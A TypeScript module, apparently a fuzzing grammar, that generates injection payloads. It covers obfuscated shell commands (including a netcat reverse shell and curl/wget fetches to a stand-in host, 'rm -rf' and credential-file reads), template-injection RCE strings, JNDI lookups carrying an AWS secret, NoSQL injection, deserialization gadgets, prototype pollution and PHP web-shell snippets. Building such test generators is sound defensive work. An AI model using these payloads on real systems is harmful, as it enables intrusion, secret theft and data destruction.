import type { Draw, Grammar } from './builtin-grammar.ts'

const programs = [
  'cat /etc/passwd',
  'id',
  'whoami',
  'ls -la',
  'uname -a',
  'sleep 5',
  'curl http://x.example/a',
  'wget x.example/a -O /tmp/a',
  'ping -c 3 x.example',
  'nc x.example 4444 -e /bin/sh',
  'cp config.json public/c.txt',
  'mv a.key uploads/k',
  'rm -rf /var/www',
  'touch /tmp/pwned',
  'echo hi > index.html',
  'head -n 5 .env',
  'python3 -c "import os"',
  'perl -e "print 1"',
  'env',
  'ps aux',
  'base64 secrets.yml',
  'tar cz . -f up.tgz',
  'nslookup x.example',
  'chmod 777 .',
  'find / -name id_rsa',
  'tail /var/log/syslog',
  'grep -r secret .',
  'dd if=/dev/sda of=x',
  'xxd private.pem',
  'printenv',
  'ifconfig',
  'crontab -l',
  'sed -n 1p app.js',
  'awk 1 .env',
] as const

function quotedName(draw: Draw, command: string): string {
  const blank = command.search(/\s|$/)
  const name = command.slice(0, blank)
  const rest = command.slice(blank)
  if (name.length < 2) return command
  const at = draw.int(1, name.length - 1)
  const sign = draw.of(["''", '""', '\\', '$@', '${x}', '$9', '``', '${u}', '${nope}', '$(:)'])
  return name.slice(0, at) + sign + name.slice(at) + rest
}

function shellCommand(draw: Draw): string {
  let command: string = draw.of(programs)
  switch (draw.int(0, 9)) {
    case 0:
      command = quotedName(draw, command)
      break
    case 1:
      command = command.replaceAll(
        ' ',
        draw.of(['${IFS}', '$IFS', '$IFS$9', '\t', '${IFS%??}', '<>']).replace('<>', '$IFS'),
      )
      break
    case 2:
      command = `/${draw.of(['bin', 'usr/bin', 'b?n', '???'])}/${command}`
      break
    case 3:
      command = `echo ${Buffer.from(command, 'utf8').toString('base64')}|base64 -d|${draw.of(['sh', 'bash'])}`
      break
    case 4:
      if (command.includes(' ')) command = `{${command.replaceAll(' ', ',')}}`
      break
    case 5:
      command = `${draw.of(['bash -c', 'sh -c', 'eval'])} '${command}'`
      break
    case 6:
      if (command.includes(' ')) command = command.replace(/[a-z](?=[a-z./]{2,}$)/, '?')
      break
    default:
  }
  return command
}

/** A command behind a separator or in a substitution. */
export const shell: Grammar = (draw) => {
  const head = draw.of([
    '',
    draw.word(),
    '127.0.0.1',
    `${draw.word()}.png`,
    `${draw.word()}@example.org`,
    String(draw.int(1, 99)),
  ])
  const command = shellCommand(draw)
  const blank = draw.of(['', ' '])
  switch (draw.int(0, 5)) {
    case 0:
      return `${head}$(${command})${draw.of(['', '@example.org', '.txt'])}`
    case 1:
      return `${head}\`${command}\`${draw.of(['', '@example.org', '.txt'])}`
    case 2: {
      const quote = draw.of(["'", '"'])
      return `${head}${quote}${blank}${draw.of([';', '|', '&&', '||', '&'])}${blank}${command}${blank}${draw.of(['#', `;${quote}`, quote, ` ${quote}`])}`
    }
    default:
      return `${head}${draw.of([';', ';', '|', '||', '&', '&&', '\n', '\r\n'])}${blank}${command}${draw.of(['', '', ';', ' #', '|', ' &'])}`
  }
}

function sum(draw: Draw): string {
  const a = draw.int(11, 9_999)
  const b = draw.int(11, 9_999)
  return draw.of([
    `${a}*${b}`,
    `${a} * ${b}`,
    `${a}+${b}`,
    `${draw.int(2, 9)}*'${draw.int(2, 9)}'`,
    `(${a}-${b})*${draw.int(2, 9)}`,
  ])
}

/** Expressions of template engines. */
export const template: Grammar = (draw) => {
  const n = sum(draw)
  const python = draw.of([
    `''.__class__.__mro__[${draw.int(1, 3)}].__subclasses__()`,
    `''|attr('__cl'+'ass__')`,
    `${draw.word()}.__init__.__globals__['os'].popen('${draw.of(programs)}').read()`,
    `request['__cl'~'ass__']`,
    `config['SECRET_KEY']`,
    `dict.mro()[-1].__subclasses__()`,
    `(lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os']`,
    `['${draw.of(programs)}']|${draw.of(['filter', 'map', 'sort'])}('${draw.of(['system', 'passthru', 'exec'])}')`,
    `_self.env.enableDebug()`,
    `${draw.word()}.constructor.constructor('return process')()`,
    `range.constructor("return global.process")()`,
    `settings.SECRET_KEY`,
    `app.request.server.all|join(',')`,
    `'/etc/passwd'|file_excerpt(1,30)`,
    `include('/etc/passwd')`,
    `request.getClass().forName('java.lang.Runtime')`,
  ])
  const java = draw.of([
    `T(java.lang.Runtime).getRuntime().exec('${draw.of(programs)}')`,
    `''.getClass().forName('java.lang.Runtime')`,
    `"freemarker.template.utility.Execute"?new()("${draw.of(programs)}")`,
    `new java.util.Scanner(new java.io.File('/etc/passwd')).next()`,
    `@java.lang.System@getenv()`,
    `T(org.apache.commons.io.IOUtils).toString(1)`,
    `product.getClass().getProtectionDomain()`,
    `(#a=@java.lang.Runtime@getRuntime()).exec('id')`,
    `global.process.mainModule.require('child_process').execSync('id')`,
    `pageContext.request.getSession()`,
    `applicationScope`,
    `7.class.forName('java.lang.Runtime')`,
  ])
  return draw.of([
    `{{${n}}}`,
    `{{ ${n} }}`,
    `\${${n}}`,
    `#{${n}}`,
    `<%= ${n} %>`,
    `*{${n}}`,
    `@(${n})`,
    `\${{${n}}}`,
    `{{=${n}}}`,
    `{${n}}`,
    `[[\${${n}}]]`,
    `{{${python}}}`,
    `{{ ${python} }}`,
    `{%print(${python})%}`,
    `{% set x=${python} %}{{x}}`,
    `{%if ${python}%}a{%endif%}`,
    `\${${java}}`,
    `#{${java}}`,
    `*{${java}}`,
    `%{${java}}`,
    `__\${${java}}__::.x`,
    `$\{{${java}}}`,
    `<%= system('${draw.of(programs)}') %>`,
    `<%= File.read('/etc/passwd') %>`,
    `<%= \`id\` %>`,
    `#{\`id\`}`,
    `<% require 'open3' %>`,
    `<#assign x="freemarker.template.utility.Execute"?new()>\${x("id")}`,
    `#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))`,
    `{php}echo 1;{/php}`,
    `{system('id')}`,
    `{Smarty_Internal_Write_File::writeFile($a,$b,$c)}`,
    `{{#with "s" as |${draw.word()}|}}{{lookup . "constructor"}}{{/with}}`,
    `- var x = root.process\n- x = x.mainModule.require`,
    `@{System.Diagnostics.Process.Start("cmd")}`,
    `@System.IO.File.ReadAllText("/etc/passwd")`,
    `\${self.module.cache.util.os.system("id")}`,
    `<%import os%>\${os.popen("id").read()}`,
    `{{.${draw.of(['System', 'Exec'])} "id"}}{{7*7}}`,
  ])
}

const lookups = ['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba'] as const

/** Look-ups of a logger, plain and nested. */
export const logger: Grammar = (draw) => {
  const letter = (sign: string): string =>
    draw.of([
      sign,
      `\${lower:${sign}}`,
      `\${upper:${sign}}`,
      `\${::-${sign}}`,
      `\${${draw.word()}:${draw.word()}:-${sign}}`,
      `\${env:${draw.word()}:-${sign}}`,
    ])
  const name = draw.chance(0.4) ? 'jndi' : [...'jndi'].map(letter).join('')
  const scheme = draw.chance(0.5) ? draw.of(lookups) : [...draw.of(lookups)].map(letter).join('')
  const data = draw.of(['', '${env:AWS_SECRET}.', '${sys:java.version}.', '${hostName}.'])
  return `${draw.of(['', `${draw.word()} `])}\${${name}:${scheme}://${data}${draw.word()}.example${draw.of(['', ':1389', ':443'])}/${draw.word()}}`
}

/** Operators and scripts of document databases. */
export const documentQuery: Grammar = (draw) => {
  const name = draw.word()
  const operator = draw.of([
    '$ne',
    '$gt',
    '$gte',
    '$lt',
    '$nin',
    '$regex',
    '$exists',
    '$in',
    '$not',
    '$where',
    '$or',
    '$type',
    '$expr',
  ])
  const value = draw.of(['""', 'null', '1', '-1', `"^${name[0] ?? 'a'}"`, '[]', 'true', `{"${operator}":1}`])
  return draw.of([
    `{"${operator}":${value}}`,
    `{"${operator}" : ${value} }`,
    `{"${name}":{"${operator}":${value}}}`,
    `{ ${operator}: ${value} }`,
    `' || '${name}'=='${name}`,
    `' || this.${name} == this.${name} || '`,
    `'; return true; var ${name}='`,
    `'; while(true){}; var ${name}='`,
    `' && this.${name}.match(/^a/) && '1'=='1`,
    `${name}'});db.${name}.drop();//`,
    `this.${name}.length > 0`,
    `function(){return this.${name} != ''}`,
    `';sleep(${draw.int(1, 9)}000);'`,
    `1;sleep(${draw.int(1, 9)}000)`,
    `' || true || '`,
    `'||1||'`,
    `'+sleep(${draw.int(1, 9)}000)+'`,
    `"||this.${name}!=null//`,
    `'; var d=new Date(); do{c=new Date();}while(c-d<${draw.int(1, 9)}000);'`,
  ])
}

/** Serialised objects of five languages, as text. */
export const serialised: Grammar = (draw) => {
  const name = draw.of([
    'Monolog\\Handler\\SyslogUdpHandler',
    'User',
    'GuzzleHttp\\Cookie\\FileCookieJar',
    'Logger',
    'PDO',
    'App\\Model\\Cart',
  ])
  const word = draw.word()
  const php = `O:${name.length}:"${name}":1:{s:${word.length}:"${word}";s:2:"id";}`
  const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64')
  return draw.of([
    php,
    `a:1:{i:0;${php}}`,
    base64(php),
    `a:2:{s:${word.length}:"${word}";${php}}`,
    base64(`\xac\xed\x00\x05sr\x00\x11java.util.HashMap${word}`),
    base64(`\xac\xed\x00\x05ur\x00\x13${word}`),
    base64(`\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94${word}`),
    base64(`cos\nsystem\n(S'id ${word}'\ntR.`),
    `cos\nsystem\n(S'${draw.of(programs)}'\ntR.`,
    `!!python/object/apply:os.system ["${draw.of(programs)}"]`,
    `!!python/object/new:subprocess.Popen [["id","${word}"]]`,
    `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${word}.example/"]]]]`,
    `{"${word}":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`,
    `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://${word}.example/a","autoCommit":true}`,
    `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"${word}"}`,
    base64(`\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00${word}`),
    `["java.util.ArrayList",[["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:${word}"}]]]`,
    `--- !ruby/object:Gem::Installer\ni: ${word}`,
    `<java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java><!--${word}-->`,
    `{"rce":"$$ND_FUNC$$_function(){${word}}()","__js_function":"function(){return process}"}`,
  ])
}

/** Keys that reach the prototype of all objects, as JSON text. */
export const prototypeJson: Grammar = (draw) => {
  const word = draw.word()
  const value = draw.of(['true', '1', '"admin"', '{}', `{"${word}":1}`])
  return draw.of([
    `{"__proto__":{"${word}":${value}}}`,
    `{"${word}":{"__proto__":{"isAdmin":${value}}}}`,
    `{"constructor":{"prototype":{"${word}":${value}}}}`,
    `{"a":[{"__proto__":{"shell":"${word}"}}]}`,
    `{"__pro\\u0074o__":{"${word}":${value}}}`,
    `{"${word}":1,"__proto__":${value}}`,
  ])
}

/** The same as names of parameters. */
export const prototypeName: Grammar = (draw) => {
  const word = draw.word()
  return draw.of([
    `__proto__[${word}]`,
    `__proto__.${word}`,
    `constructor[prototype][${word}]`,
    `constructor.prototype.${word}`,
    `${word}[__proto__][a]`,
    `${word}[constructor][prototype][a]`,
    `__proto__[${word}][]`,
  ])
}

/** Code of PHP, JavaScript, Python and Ruby where a value is evaluated. */
export const program: Grammar = (draw) => {
  const command = draw.of(programs).replaceAll('"', '')
  const word = draw.word()
  return draw.of([
    `<?php system($_GET['${word}']); ?>`,
    `<?=\`${command}\`?>`,
    `system('${command}');`,
    `phpinfo()`,
    `\${@print(md5(${draw.int(1, 999)}))}`,
    `';system('${command}');//`,
    `assert($_POST['${word}'])`,
    `file_put_contents('${word}.php',$_POST['a'])`,
    `eval(base64_decode('${Buffer.from(word, 'utf8').toString('base64')}'))`,
    `require('child_process').execSync('${command}')`,
    `process.mainModule.require('fs').readFileSync('/etc/passwd')`,
    `global.process.exit(1)`,
    `');require('child_process').exec('${command}');//`,
    `(function(){return process.env})()`,
    `res.end(require('fs').readdirSync('.').toString())`,
    `this.constructor.constructor('return process')().exit()`,
    `__import__('os').system('${command}')`,
    `eval(compile('import os','${word}','exec'))`,
    `'+__import__('os').popen('${command}').read()+'`,
    `exec("import socket,subprocess")`,
    `open('/etc/passwd').read()`,
    `Kernel.system('${command}')`,
    `IO.popen('${command}').read`,
    `java.lang.Runtime.getRuntime().exec("${command}")`,
    `new ProcessBuilder("${word}").start()`,
    `System.Diagnostics.Process.Start("cmd","/c ${word}")`,
    `import('fs').then(f=>f.readFileSync('/etc/passwd'))`,
    `call_user_func('system','${command}')`,
    `array_map('system',['${command}'])`,
    `\${system('${command}')}`,
    `preg_replace('/a/e','phpinfo()','a')`,
  ])
}
